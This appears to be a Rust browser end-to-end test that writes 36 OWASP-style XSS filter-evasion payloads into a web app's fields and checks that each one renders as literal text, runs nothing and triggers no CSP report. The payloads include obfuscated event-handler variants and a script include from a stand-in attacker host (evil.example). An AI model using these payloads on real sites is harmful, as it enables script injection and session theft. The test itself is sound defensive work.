//! A security review as a test: 36 XSS payloads (OWASP filter-evasion style) written into every
//! field the UI shows (service names, notes, record ids, which reach the run log, notification
//! group names, company group names, a company name, a user name), then rendered in the list,
//! the cards, the search highlight, the service page's tabs, the dialogs and a toast. Each one
//! must be shown literally, run nothing (`window.__xss` stays unset, no element is injected) and
//! trigger no CSP report.

use fantoccini::key::Key;
use fantoccini::Locator;
use serde_json::{json, Value};
use services_e2e::Harness;

const PAYLOADS: [&str; 36] = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=2\">",
    "<svg onload=window.__xss=3>",
    "<iframe src=\"javascript:window.top.__xss=4\"></iframe>",
    "\"><script>window.__xss=5</script>",
    "'><img src=x onerror=window.__xss=6>",
    "<body onload=window.__xss=7>",
    "<a href=\"javascript:window.__xss=8\">click me</a>",
    "javascript:window.__xss=9",
    "<IMG SRC=JaVaScRiPt:window.__xss=10>",
    "<IMG SRC=`javascript:window.__xss=11`>",
    "<<SCRIPT>window.__xss=12//<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE0'))>",
    "<div style=\"background:url(javascript:window.__xss=15)\">",
    "<style>@import 'javascript:window.__xss=16';</style>",
    "<input onfocus=window.__xss=17 autofocus>",
    "<details open ontoggle=window.__xss=18>",
    "<marquee onstart=window.__xss=19>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=20>",
    "{{constructor.constructor('window.__xss=21')()}}",
    "${window.__xss=22}",
    "<object data=\"javascript:window.__xss=23\">",
    "<embed src=\"javascript:window.__xss=24\">",
    "<form><button formaction=javascript:window.__xss=25>x</button></form>",
    "<svg><script>window.__xss=26</script></svg>",
    "<img src=\"x\" onerror=\"&#119;indow.__xss=27\">",
    "&lt;script&gt;window.__xss=28&lt;/script&gt;",
    "<scr<script>ipt>window.__xss=29</scr</script>ipt>",
    "%3Cscript%3Ewindow.__xss=30%3C/script%3E",
    "<a href=\"&#x6A;avascript:window.__xss=31\">x</a>",
    "<video><source onerror=\"window.__xss=32\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=33\">",
    "\" onmouseover=\"window.__xss=35",
    "<template><img src=x onerror=window.__xss=36></template>",
    "＜script＞window.__xss=37＜/script＞ \u{202E}evil",
];

/// Elements no payload may create.
const INJECTED: &str = "[onerror],[onload],[onfocus],[ontoggle],[onstart],[onmouseover],\
    iframe,object,embed,marquee,video,math,template,meta[http-equiv],base,\
    button[formaction],img[src=x]";

async fn assert_inert(h: &Harness, place: &str) {
    let state = h
        .browser
        .execute(
            "return [window.__xss === undefined ? null : window.__xss,
                     document.querySelectorAll(arguments[0]).length,
                     document.querySelectorAll('script:not([src])').length];",
            vec![json!(INJECTED)],
        )
        .await
        .unwrap();
    assert_eq!(state[0], Value::Null, "{place}: a payload ran");
    assert_eq!(state[1], 0, "{place}: a payload made elements");
    assert!(
        state[2].as_u64().unwrap() <= 1,
        "{place}: inline scripts {}",
        state[2]
    );
}

/// The `textContent` of every element matching `css`.
async fn text_contents(h: &Harness, css: &str) -> Vec<String> {
    let found = h
        .browser
        .execute(
            "return Array.from(document.querySelectorAll(arguments[0])).map(e => e.textContent);",
            vec![json!(css)],
        )
        .await
        .unwrap();
    serde_json::from_value(found).unwrap()
}

async fn page_text(h: &Harness) -> String {
    h.eval("document.body.textContent")
        .await
        .as_str()
        .unwrap()
        .to_string()
}

async fn sql(h: &Harness, statement: &'static str, value: &str, id: u64) {
    services_server::with_pool!(&h.server.db, write, |pool| {
        sqlx::query(statement)
            .bind(value)
            .bind(id as i64)
            .execute(pool)
            .await
            .unwrap()
            .rows_affected()
    });
}

async fn wait_for_rows(h: &Harness) -> Vec<String> {
    h.wait_for_texts("#services-panel a.name", "rows", |names| names.len() >= 36)
        .await
}

async fn open_menu_item(h: &Harness, service: u64, item: &str) {
    let row = format!(
        "//tr[.//span[contains(@class, 'id') and starts-with(normalize-space(.), '{service}')]]//button[@aria-haspopup='menu']"
    );
    h.browser
        .wait()
        .for_element(Locator::XPath(&row))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let xpath = format!("//*[@role='menuitem'][starts-with(normalize-space(.), '{item}')]");
    h.browser
        .wait()
        .for_element(Locator::XPath(&xpath))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn xss_payloads_in_every_field_are_shown_as_text_and_run_nothing() {
    let h = Harness::start().await;

    // Fields the API can't write: through the database, as an operator's tools would.
    let groups = [PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]];
    for (id, name) in (1u64..=3).zip(groups) {
        sql(
            &h,
            "UPDATE company_groups SET name = $1 WHERE id = $2",
            name,
            id,
        )
        .await;
    }
    let notification_groups: Vec<i64> = services_server::with_pool!(&h.server.db, read, |pool| {
        sqlx::query_scalar("SELECT id FROM notification_groups WHERE company_id = 1")
            .fetch_all(pool)
            .await
            .unwrap()
    });
    for (id, name) in notification_groups.iter().zip([PAYLOADS[3], PAYLOADS[4]]) {
        sql(
            &h,
            "UPDATE notification_groups SET name = $1 WHERE id = $2",
            name,
            *id as u64,
        )
        .await;
    }
    sql(
        &h,
        "UPDATE companies SET name = $1 WHERE id = $2",
        PAYLOADS[5],
        1,
    )
    .await;
    // Northwind's read-only user, listed on the sign-in page.
    sql(
        &h,
        "UPDATE users SET name = $1 WHERE id = $2",
        PAYLOADS[6],
        4,
    )
    .await;

    h.open("/").await;
    h.wait_for_texts("button", "the demo users", |t| {
        t.iter().any(|b| b.contains("Ada Morgan"))
    })
    .await;
    let sign_in = page_text(&h).await;
    assert!(
        sign_in.contains(PAYLOADS[5]),
        "the company name on the sign-in page"
    );
    assert!(
        sign_in.contains(PAYLOADS[6]),
        "the user name on the sign-in page"
    );
    assert_inert(&h, "the sign-in page").await;
    h.sign_in_as("Ada Morgan").await;

    // Through the API: names, notes, and record ids that the run writes into its log.
    let (status, list) = h
        .api(
            "GET",
            "/api/v1/company-groups/1/services?sort=id&limit=36",
            None,
        )
        .await;
    assert_eq!(status, 200, "{list}");
    let ids: Vec<u64> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_u64().unwrap())
        .collect();
    assert_eq!(ids.len(), PAYLOADS.len());
    for (id, payload) in ids.iter().zip(PAYLOADS) {
        let (status, body) = h
            .api(
                "PATCH",
                &format!("/api/v1/services/{id}"),
                Some(json!({"name": payload, "notes": format!("Notes: {payload}\n{payload}"), "status": "active"})),
            )
            .await;
        assert_eq!(status, 200, "{payload}: {body}");
        assert_eq!(body["name"], payload, "stored as sent");
    }
    let record_ids: Vec<&str> = PAYLOADS
        .iter()
        .copied()
        .filter(|p| p.chars().count() <= 64)
        .collect();
    assert!(record_ids.len() >= 30);
    let (status, run) = h
        .api(
            "POST",
            &format!("/api/v1/services/{}/runs", ids[0]),
            Some(json!({"record_ids": record_ids})),
        )
        .await;
    assert_eq!(status, 201, "{run}");
    let run = run["id"].as_u64().unwrap();

    // The list: names in the rows, group names in the tabs, the company in the account bar.
    h.open("/?group=1&per_page=250").await;
    h.sign_in_as("Ada Morgan").await;
    let names = wait_for_rows(&h).await;
    assert!(!names.is_empty());
    let rendered = text_contents(&h, "#services-panel a.name").await;
    for payload in PAYLOADS {
        assert!(
            rendered.iter().any(|n| n == payload),
            "the row shows {payload:?} literally: {rendered:?}"
        );
    }
    let tabs = text_contents(&h, "[role=tab]").await.concat();
    for name in groups {
        assert!(tabs.contains(name), "the tab shows {name:?}: {tabs}");
    }
    assert!(
        page_text(&h).await.contains(PAYLOADS[5]),
        "the company name"
    );
    assert_inert(&h, "the list").await;
    h.screenshot("xss-list-1280x800").await;

    // The search highlight splits names into marked parts; still text.
    h.open("/?group=1&per_page=250&q=script").await;
    h.sign_in_as("Ada Morgan").await;
    h.wait_for_texts("#services-panel a.name", "matches", |n| !n.is_empty())
        .await;
    let marked = text_contents(&h, "#services-panel a.name").await;
    for payload in PAYLOADS
        .iter()
        .filter(|p| p.to_lowercase().contains("script"))
    {
        assert!(
            marked.iter().any(|n| n == payload),
            "highlighted {payload:?}: {marked:?}"
        );
    }
    assert_inert(&h, "the search").await;

    // The cards, below 900 px.
    h.browser.set_window_size(800, 900).await.unwrap();
    h.open("/?group=1&per_page=250").await;
    h.sign_in_as("Ada Morgan").await;
    wait_for_rows(&h).await;
    assert!(
        h.browser
            .find(Locator::Css("#services-panel table"))
            .await
            .is_err(),
        "cards, not a table"
    );
    let cards = page_text(&h).await;
    for payload in PAYLOADS {
        assert!(cards.contains(payload), "a card shows {payload:?}");
    }
    assert_inert(&h, "the cards").await;
    h.browser.set_window_size(1280, 800).await.unwrap();

    // The service page: header, settings (name and notes), alerts (notification groups), and
    // the run log with the record ids.
    let (id, payload) = (ids[7], PAYLOADS[7]);
    h.open(&format!("/services/{id}?tab=settings")).await;
    h.sign_in_as("Ada Morgan").await;
    let name_field = h.find("#service-panel input[type=text]").await;
    assert_eq!(
        name_field.prop("value").await.unwrap().as_deref(),
        Some(payload)
    );
    let notes = h.find("#service-panel textarea").await;
    assert_eq!(
        notes.prop("value").await.unwrap().unwrap(),
        format!("Notes: {payload}\n{payload}")
    );
    assert_eq!(text_contents(&h, "main h1").await, [payload]);
    assert_inert(&h, "the settings tab").await;
    h.open(&format!("/services/{id}?tab=alerts")).await;
    h.sign_in_as("Ada Morgan").await;
    h.find("#service-panel select").await;
    let options = text_contents(&h, "#service-panel select option").await;
    for name in [PAYLOADS[3], PAYLOADS[4]] {
        assert!(
            options.iter().any(|o| o.starts_with(&format!("{name} ("))),
            "option {name:?}: {options:?}"
        );
    }
    assert_inert(&h, "the alerts tab").await;
    h.open(&format!("/services/{}?tab=summary&run={run}", ids[0]))
        .await;
    h.sign_in_as("Ada Morgan").await;
    let log = h
        .wait_for_texts("#service-panel", "the record ids in the log", |t| {
            t.iter().any(|x| x.contains("record id(s)"))
        })
        .await
        .concat();
    let log_text = page_text(&h).await;
    for record in &record_ids {
        assert!(
            log_text.contains(record.trim()),
            "the log shows {record:?}: {log}"
        );
    }
    assert_inert(&h, "the run log").await;

    // Dialogs and a toast name the service.
    h.open("/?group=1&per_page=250").await;
    h.sign_in_as("Ada Morgan").await;
    wait_for_rows(&h).await;
    for (item, index) in [("Remove", 9usize), ("Run manually", 10), ("Deactivate", 11)] {
        open_menu_item(&h, ids[index], item).await;
        let dialog = h.find("[role=dialog]").await;
        let text = h
            .browser
            .execute(
                "return arguments[0].textContent;",
                vec![serde_json::to_value(&dialog).unwrap()],
            )
            .await
            .unwrap();
        assert!(
            text.as_str().unwrap().contains(PAYLOADS[index]),
            "the {item} dialog names {:?}: {text}",
            PAYLOADS[index]
        );
        assert_inert(&h, item).await;
        h.browser
            .active_element()
            .await
            .unwrap()
            .send_keys(&Key::Escape.to_string())
            .await
            .unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    open_menu_item(&h, ids[12], "Clone").await;
    let toasts = h
        .wait_for_texts("div[aria-live=polite] div", "the clone's toast", |t| {
            t.iter().any(|x| x.contains("Copy of"))
        })
        .await
        .concat();
    let toast_text = text_contents(&h, "div[aria-live=polite]").await.concat();
    assert!(
        toast_text.contains(&format!("Copy of {}", PAYLOADS[12])),
        "the toast names the copy literally: {toasts}"
    );
    assert_inert(&h, "the toast").await;

    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let reports = h.csp_reports().await;
    assert!(reports.is_empty(), "CSP violations: {reports:#?}");
    h.stop().await;
}
